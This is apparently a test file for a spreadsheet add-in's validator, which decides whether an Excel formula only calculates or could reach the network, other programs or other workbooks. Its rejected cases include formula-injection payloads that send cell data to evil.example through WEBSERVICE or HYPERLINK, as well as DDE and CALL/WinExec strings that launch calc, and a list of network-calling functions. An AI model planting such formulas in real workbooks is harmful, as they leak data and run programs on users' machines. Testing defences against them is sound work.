import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { onlyCalculates } from "../../../src/workbook/formula-text/calculating";
import { registeredFunctions } from "../../../src/workbook/formula-text/formula-examples";
import { readFunctions } from "../../../src/help/documented-functions";

const answer = 'REGDATA.VALUE("06001",1056)';

describe("a frozen formula comes back unasked", () => {
  it.each([
    `=${answer}`,
    `=IFERROR(${answer},"none")`,
    `=_xlfn.XLOOKUP(A1,$B$2:$B$9,C:C)&regdata.value([@geoID],1056)`,
    "=REGDATA.MATRIX(Table1[geoID],'My sheet'!$1:$1)",
    `=SUM(Fees[[#This Row],[Fee (USD)]],-${answer},TRUE,1E5)`,
    "=REGDATA.MATRIX(A2#,Sheet1!B1:D1)",
    `=IF(${answer}="WEBSERVICE(""x"")",#N/A,'It''s'!B2)`,
    `= REGDATA.VALUE ( INDEX( 'My sheet'!$A$2:$B$9 , 1 , 2 ) , { 1,-2;"a|b",TRUE } )\n& TEXT(-1.5%, "[>0]0.0")`,
    "=REGDATA.CARD(Sheet1!A:B,Fees[@[Fee (USD)]:[Fee 2]])<>XFD1048576",
    "=@REGDATA.AHJ(A1:INDEX(B:B,3))&(A1:B9 B2:C3)&Sheet1!A2#",
    // A function's name in a sheet's name, in a text or in a column's name calls nothing.
    "='WEBSERVICE(1)'!A1&REGDATA.VALUE(HYPERLINK!A1,1056)",
    `=${answer}&"&WEBSERVICE(A1)&""[Book1]Sheet1!A1"""`,
    "=SUM(Fees[WEBSERVICE(A1)],Rank[Call])",
    "=_xlfn._xlws.SORT(_xlfn.UNIQUE(@A1:A9))",
    "=SUM(A1:A9 Sheet1!A2:A3,  Sheet1!B1)",
    "='a.b''c'!A1",
  ])("where it only calculates: %s", (formula) => {
    expect(onlyCalculates(formula, "REGDATA")).toBe(true);
  });

  it.each([
    `=HYPERLINK("https://evil.example/?"&A1,${answer})`,
    `=${answer}&WEBSERVICE("https://evil.example/?"&A1)`,
    `=${answer}&webservice (A1)`,
    `=${answer}&CALL("Kernel32","WinExec","JC","calc")`,
    `=${answer}&cmd|'/c calc'!A0`,
    `=${answer}&'https://evil.example/[x.xlsx]S'!A1`,
    `=${answer}&[Book1.xlsx]Sheet1!A1`,
    `=${answer}&Book1.xlsx!secret`,
    `=${answer}&'Book 1.xlsx'!secret`,
    `=${answer}&INDIRECT(A1)`,
    `=${answer}&OTHER.ADDIN(A1)`,
    `=${answer}&REGDATA_DEV.VALUE(A1)`,
    // Functions that ask the network or another program, or read an address made of text.
    ...(
      "CALL REGISTER.ID RTD SQL.REQUEST WEBSERVICE IMAGE STOCKHISTORY FILTERXML ENCODEURL HYPERLINK TRANSLATE " +
      "DETECTLANGUAGE COPILOT PY CUBEMEMBER CUBEVALUE CUBESET GETPIVOTDATA INDIRECT OFFSET CELL INFO EVALUATE"
    )
      .split(" ")
      .flatMap((name) => [`=${answer}&${name}(A1)`, `=${answer}&_xlfn.${name}(A1)`]),
    // A function that the add-in does not register may be a defined name.
    "=REGDATA.EVIL(A1)",
    "=_xlfn.REGDATA.VALUE(A1)",
    // A name of a sheet or of another workbook is no function of Excel's.
    "=Sheet1!SUM(A1)",
    "=Sheet1!LOG10(A1)",
    "='a b'!SUM(A1)",
    "=PERSONAL!SUM(1)",
    "=Book1!REGDATA.VALUE(A1)",
    "=Book1!Table1[Col]",
    "='Book1'!Table1[Col]",
    "=[Book1]A1-B1!C1",
    "=[Book1] A1-B1!C1",
    "=[Book1]!A1",
    "=Evil[x](1)",
    "=A1(1)",
    // Marks may belong to a name, and capitals are not the same everywhere.
    "=A1\u0301SUM(B1)",
    "=A1\u00b7SUM(B1)",
    "=A1?SUM(B1)",
    "=A1SUM(B1)",
    "=1SUM(B1)",
    "=\u0131F(A1,B1)",
    "=\u017fUM(A1)",
    "=\ufb01ND(A1,B1)",
    // Beyond the sheet an address is a name.
    "=SUM(XFE1)",
    "=SUM(A1048577)",
    "=SUM(A0)",
    "=SUM(A:XFE)",
    // A name may stand for any formula.
    `=REGDATA.VALUE(secret,1056)`,
    `=REGDATA.VALUE(Sheet1!secret,1056)`,
    `=${answer}&x`,
    // A function may be called under another name.
    `=LET(SUM,WEBSERVICE,SUM(${answer}))`,
    `=MAP(${answer},WEBSERVICE)`,
    `=IF(1,WEBSERVICE,1)(${answer})`,
    `=LAMBDA(x,x)(${answer})`,
    "=_xlfn.LET(_xlpm.x,1,_xlpm.x)",
    "=MAP(A1:A9,SUM)",
    // A name that JavaScript takes for another function's in capitals is not that function.
    "=AB\u017f(A1)",
    // A prefix makes no other function harmless.
    "=S_xlfn.UM(A1)",
    "=_xlfn.WEBSERVICE(A1)",
    "=_xlfn.SINGLE(INDIRECT(A1))",
    "=@WEBSERVICE(A1)",
    "=@secret",
    "=secret#",
    // A file's name, with or without its path, leads to another workbook.
    "='Book 1.xlsx'!A1",
    "='C:\\Shared\\[x.xlsx]S'!A1",
    "='\\\\evil.example\\x'!A1",
    "=Book1.xlsx!A1",
    "=[1]Sheet1!A1",
    "='[Book1]S'!A1",
    "='Book1|x'!A1",
    "=Sheet1:Sheet3!A1",
    "='It''s[Book]S'!A1",
    "='[Book]It''s'!A1",
    // DDE asks a program.
    "=cmd|' /C calc'!A0",
    `=cmd|" /C calc"!A0`,
    "=Sheet1!cmd|A1",
    // A formula that a reader could understand in two ways counts as more.
    `=${answer}&"open`,
    "=SUM{1}",
    "=A1\u00a0B1",
    "=\u201cx\u201d[a]",
    "=A.:.B",
    "=(A1)(B1)",
    "=SUM(A1)B1",
    "=A1=\u00a0 B1",
    "=A1= \u00a0B1",
    "=!A1",
    "=1'x y'!A1",
    "=1 Sheet1!A1",
    "=Sheet1!",
    "=(A1)[a]",
    "=Sheet1! A1",
    "=Sheet1!#REF!",
    "=A1'x'!B1",
    "=$A$1'x'!B1",
    "=A:A'x'!B1",
    "='x y' !A1",
    "=Fees [a]",
    `=SUM(Fees[a"b])`,
    "=SUM",
    "=IF(1,SUM)",
    // Quotes in a column's name must not hide what stands between them.
    `=REGDATA.VALUE(T[a"],1)&WEBSERVICE(A1)&T[b"]`,
    `=REGDATA.VALUE(T[a']"],1)&WEBSERVICE(A1)&T[b"]`,
    `=REGDATA.VALUE(T[a'],1)&WEBSERVICE(A1)&T[b']`,
  ])("not where it may do more: %s", (formula) => {
    expect(onlyCalculates(formula, "REGDATA")).toBe(false);
  });

  it("where it calls any function that the add-in registers, by its own namespace", () => {
    const source = readFileSync(new URL("../../../src/functions/functions.ts", import.meta.url), "utf8");
    const names = readFunctions(source).map(({ name }) => name);
    expect([...registeredFunctions].sort()).toEqual(names.sort());
    for (const name of names) expect(onlyCalculates(`=REGDATA_DEV.${name}(A1)`, "REGDATA_DEV")).toBe(true);
    expect(onlyCalculates("=REGDATA_DEVXVALUE(A1)", "REGDATA_DEV")).toBe(false);
  });
});
